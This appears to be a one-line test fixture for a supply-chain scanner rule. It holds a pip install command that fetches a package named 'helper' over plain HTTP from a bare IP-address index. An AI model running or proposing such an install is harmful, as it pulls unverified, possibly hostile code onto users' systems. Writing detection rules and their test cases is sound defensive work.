# ruleid: skillgate.supply-chain.bad-host-package
pip install --index-url http://198.51.100.7:8000/simple helper
